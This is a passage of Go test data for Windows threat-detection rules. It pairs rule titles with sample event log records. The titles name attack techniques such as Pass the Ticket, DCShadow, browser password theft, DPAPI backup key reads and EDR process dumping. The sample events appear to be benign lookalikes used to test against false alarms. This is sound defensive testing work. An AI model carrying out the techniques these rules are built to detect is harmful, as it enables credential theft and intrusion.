			ID:      "6d2b4f80-0c7e-4ad9-9f35-3e8c6b0a2f47", // Kerberos Ticket Injected Through PowerShell (Pass the Ticket, Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Out-Default): "Out-Default"`,
			},
		},
		{
			ID:      "7e3c5a91-1d8f-4be0-a046-4f9d7c1b3a58", // Browser Password Store Copied by Another Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Program Files\Google\Chrome\Application\chrome.exe`,
				"TargetFilename": `C:\Users\bob\AppData\Local\Google\Chrome\User Data\Default\Login Data`,
			},
		},
		{
			ID:      "8f4d6b02-2e9a-4cf1-b157-5a0e8d2c4b69", // File Timestamps Rewritten in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Get-ChildItem C:\Logs | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item`,
			},
		},
		{
			ID:      "9a5e7c13-3f0b-4d02-8268-6b1f9e3d5c7a", // Program or Script Written to or Run From an Alternate Data Stream
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell -c "Get-Content C:\Users\bob\Downloads\setup.exe:Zone.Identifier; Invoke-WebRequest http://intranet.example.com:8080/tools/setup.exe"`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		{
			ID:      "0b6f8d24-4a1c-4e13-9379-7c2a0f4e6d8b", // Domain Controller Replication SPN Added to a Computer Account (DCShadow)
			Channel: "Security", EventID: 4742,
			Fields: map[string]string{
				"SubjectUserName":       `WS01$`,
				"TargetUserName":        `WS01$`,
				"ServicePrincipalNames": `HOST/WS01.shire.com RestrictedKrbHost/WS01.shire.com`,
			},
		},
		{
			ID:      "1c7a9e35-5b2d-4f24-8a8a-8d3b1a5f7e9c", // Group Policy Changed From PowerShell to Run Code or Grant Rights
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Get-GPO -All | Select-Object DisplayName, ModificationTime`,
			},
		},
		{
			ID:      "2d8b0f46-6c3e-4035-9b9b-9e4c2b6a8f0d", // Group Policy Changed From PowerShell to Run Code or Grant Rights (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Get-GPResultantSetOfPolicy): "Get-GPResultantSetOfPolicy"`,
			},
		},
		{
			ID:      "3e9c1a57-7d4f-4146-8cac-0f5d3c7b9a1e", // Volume Shadow Copy Created From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\vssadmin.exe`,
				"CommandLine": `vssadmin list shadows`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":            `C:\Windows\System32\NETSH.EXE`,
				"OriginalFileName": `netsh.exe`,
				"CommandLine":      `netsh wlan show interfaces`,
				"ParentImage":      `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "daa4bb6e-4bf2-40bf-9b27-d573427b031a", // WMIC Creates a Process or Targets a Remote Node
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\wbem\WMIC.exe`,
				"CommandLine": `wmic /node:localhost os get caption`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "7ce3e5f9-1b80-447a-8a0f-4c9b6f1d3e52", // Rundll32 Loads a DLL From a Network Share
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\rundll32.exe`,
				"CommandLine": `"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL desk.cpl`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		{
			ID:      "8df4f60a-2c91-458b-9b10-5d0c7e2f4a63", // PowerShell Command Line Downloads a File to Disk
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell -c Invoke-WebRequest https://api.example.com/health -UseBasicParsing`,
				"ParentImage": `C:\Windows\System32\svchost.exe`,
			},
		},
		{
			ID:      "9e05a71b-3da2-469c-8c21-6e1d8f3a5b74", // Domain DPAPI Backup Key Read From the Domain Controller
			Channel: "Security", EventID: 4662,
			Fields: map[string]string{
				"EventID":         `4662`,
				"SubjectUserName": `DC01$`,
				"ObjectServer":    `LSA`,
				"ObjectType":      `SecretObject`,
				"ObjectName":      `Policy\Secrets\G$BCKUPKEY_PREFERRED`,
				"AccessMask":      `0x2`,
			},
		},
		{
			ID:      "0af16b2c-4eb3-47ad-9d32-7f2e9a4b6c85", // User Account Created
			Channel: "Security", EventID: 4720,
			Fields: map[string]string{
				"EventID":          `4720`,
				"SubjectUserName":  `Administrator`,
				"TargetUserName":   `WS99$`,
				"TargetDomainName": `SHIRE`,
			},
		},
		{
			ID:      "1b027c3d-5fc3-48be-8e43-8f3a0b5c7d96", // RDP Restricted Admin Mode Enabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    `SetValue`,
				"Image":        `C:\Windows\system32\svchost.exe`,
				"TargetObject": `HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin`,
				"Details":      `DWORD (0x00000001)`,
			},
		},
		{
			ID:      "2c138d4e-60d4-49cf-9f54-9a4b1c6d8ea7", // Windows Program Loads an Unsigned DLL From a User-Writable Path (Injected DLL)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
			Fields: map[string]string{
				"Image":       `C:\Windows\explorer.exe`,
				"ImageLoaded": `C:\Users\bob\AppData\Local\Programs\Contoso\ShellExt64.dll`,
				"Signed":      `false`,
			},
		},
		{
			ID:      "3d249e5f-72e6-4ad0-a06b-1b5c3d7e9f18", // File Uploaded by a PowerShell One-Liner
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell -c "Invoke-WebRequest -Uri https://download.example.com/tool.zip -OutFile C:\Temp\tool.zip"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "4e35af60-83f7-4be1-b17c-2c6d4e8f0a29", // XSL Script Run With msxsl.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\xcopy.exe`,
				"CommandLine": `xcopy C:\build\*.xsl D:\out\ /y`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "5f46b071-94a8-4cf2-8c8d-3d7e5f9a1b3a", // Silent Process Exit Monitoring Set Up for LSASS
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    `SetValue`,
				"Image":        `C:\Windows\system32\reg.exe`,
				"TargetObject": `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\LSASS.exe\AuditLevel`,
				"Details":      `DWORD (0x00000008)`,
			},
		},
		{
			ID:      "6057c182-a5b9-4d03-9e9e-4e8f6a0b2c4b", // Per-User App Paths Entry Redirects an Auto-Elevating Program's Helper
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    `SetValue`,
				"Image":        `C:\Users\bob\AppData\Local\Google\Chrome\Application\chrome.exe`,
				"TargetObject": `HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\App Paths\chrome.exe\(Default)`,
				"Details":      `C:\Users\bob\AppData\Local\Google\Chrome\Application\chrome.exe`,
			},
		},
		{
			ID:      "7168d293-b6ca-4e14-af0a-5f9a7b1c3d5c", // RDP Connection Opened by a Program That Is Not an RDP Client
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           `C:\Windows\System32\mstsc.exe`,
				"Initiated":       `true`,
				"DestinationIp":   `172.18.39.6`,
				"DestinationPort": `3389`,
				"Protocol":        `tcp`,
			},
		},
		{
			ID:      "81a9e3b5-c7d0-4f21-9a6b-6c0b8d2e4f6d", // Rundll32 Spawns a Command Shell or PowerShell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\mmc.exe`,
				"CommandLine": `"C:\Windows\system32\mmc.exe" "C:\Windows\system32\devmgmt.msc"`,
				"ParentImage": `C:\Windows\System32\rundll32.exe`,
			},
		},
		{
			ID:      "92b0f4c6-d8e1-4032-8b7c-7d1c9e3f5a7e", // Rundll32 Started Without a DLL to Run (Sacrificial Process)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\rundll32.exe`,
				"CommandLine": `"C:\Windows\system32\rundll32.exe" shell32.dll,Control_RunDLL desk.cpl`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		{
			ID:      "a3c105d7-e9f2-4143-9c8d-8e2d0a4f6b8f", // Computer Account Renamed to a Name Without the Trailing $ (sAMAccountName Spoofing)
			Channel: "Security", EventID: 4781,
			Fields: map[string]string{
				"EventID":           `4781`,
				"SubjectUserName":   `Administrator`,
				"OldTargetUserName": `WS-OLD01$`,
				"NewTargetUserName": `WS-FIN07$`,
				"TargetDomainName":  `SHIRE`,
			},
		},
		{
			ID:      "b4d216e8-fa03-4254-ad9e-9f3e1b5c7d90", // Office Application Writes an Executable or Script File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				"TargetFilename": `C:\Users\bob\Documents\report.docx`,
			},
		},
		{
			ID:      "b4d216e8-fa03-4254-ad9e-9f3e1b5c7d90", // Office Application Writes an Executable or Script File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				"TargetFilename": `C:\Users\bob\AppData\Local\Microsoft\Office\16.0\Wef\webview2\abc\EBWebView\x64\msedgewebview2.dll`,
			},
		},
		{
			ID:      "c5e327f9-0b14-4365-be0f-0a4f2c6d8ea1", // Antivirus or EDR Engine Process Opened With Rights to Suspend or Dump It
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
			Fields: map[string]string{
				"SourceImage":   `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25100.9008-0\MpCmdRun.exe`,
				"TargetImage":   `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25100.9008-0\MsMpEng.exe`,
				"GrantedAccess": `0x1fffff`,
			},
		},
		{
			ID:      "c5e327f9-0b14-4365-be0f-0a4f2c6d8ea1", // Antivirus or EDR Engine Process Opened With Rights to Suspend or Dump It
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
			Fields: map[string]string{
				"SourceImage":   `C:\Windows\System32\taskmgr.exe`,
				"TargetImage":   `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25100.9008-0\MsMpEng.exe`,
				"GrantedAccess": `0x1000`,
			},
		},
		{
			// Get-Process in a remoting session: .NET opens every process with full access.
			ID:      "c5e327f9-0b14-4365-be0f-0a4f2c6d8ea1", // Antivirus or EDR Engine Process Opened With Rights to Suspend or Dump It
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
			Fields: map[string]string{
				"SourceImage":   `C:\Windows\System32\wsmprovhost.exe`,
				"TargetImage":   `C:\Windows\Sysmon64.exe`,
				"GrantedAccess": `0x1f3fff`,
			},
		},
	}...)
}
